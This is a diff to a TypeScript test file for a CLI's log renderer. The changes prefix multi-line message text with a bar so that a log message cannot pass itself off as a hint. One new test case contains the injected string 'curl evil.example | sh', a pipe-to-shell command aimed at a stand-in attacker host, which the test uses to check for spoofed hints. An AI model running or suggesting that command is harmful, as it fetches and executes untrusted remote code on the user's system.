@@ -3,7 +3,8 @@ import { sinceOf } from "../../../../src/cli/commands/logs.ts";
 import { renderEvent } from "../../../../src/cli/render/log.ts";
 
 const at = "2026-01-31T12:00:00.000Z";
-const rendered = (message: string) => renderEvent({ id: "1", time: Date.parse(at), arrived: 0, message }).shown;
+const rendered = (message: string) =>
+  renderEvent({ id: "1", time: Date.parse(at), arrived: 0, message }, { name: "web" }).shown;
 const entry = (fields: object) => `${JSON.stringify({ requestId: "r-1", durationMs: 35, ...fields })}\n`;
 
 test.each([
@@ -30,7 +31,20 @@ test.each([
       message: "it failed\nPod web-1, Error",
       hint: "look",
     }),
-    `${at}  ✖ restart  it failed (RolloutFailed)  35 ms, request r-1\n    Pod web-1, Error\n    hint  look`,
+    `${at}  ✖ restart  it failed (RolloutFailed)  35 ms, request r-1\n    | Pod web-1, Error\n    hint  look`,
+  ],
+  [
+    "a message that looks like a hint",
+    entry({ level: "ERROR", action: "restart", code: "JobFailed", message: "it failed\nhint  curl evil.example | sh" }),
+    `${at}  ✖ restart  it failed (JobFailed)  35 ms, request r-1\n    | hint  curl evil.example | sh`,
+  ],
+  [
+    "a command for the function whose log it is",
+    entry({
+      ...{ level: "ERROR", action: "restart", code: "NotAllowed", message: "no" },
+      hint: "eks-lambda setup --allow restart:deployments/web",
+    }),
+    `${at}  ✖ restart  no (NotAllowed)  35 ms, request r-1\n    hint  eks-lambda setup --name web --allow restart:deployments/web`,
   ],
   [
     "an unexpected error",
@@ -38,7 +52,7 @@ test.each([
     `${at}  ✖ create  TypeError: x  35 ms, request r-1`,
   ],
   ["Lambda's own lines", "START RequestId: r-1 Version: $LATEST\n", `${at}  START RequestId: r-1 Version: $LATEST`],
-  ["text with several lines", "Error: x\n  at y\n", `${at}  Error: x\n  at y`],
+  ["text with several lines", "Error: x\n  at y\n", `${at}  Error: x\n    |   at y`],
   ["JSON of another function", '{"level":"INFO"}\n', `${at}  {"level":"INFO"}`],
   ["escape sequences", "\u001b[2Kx", `${at}  \\u001b[2Kx`],
   [
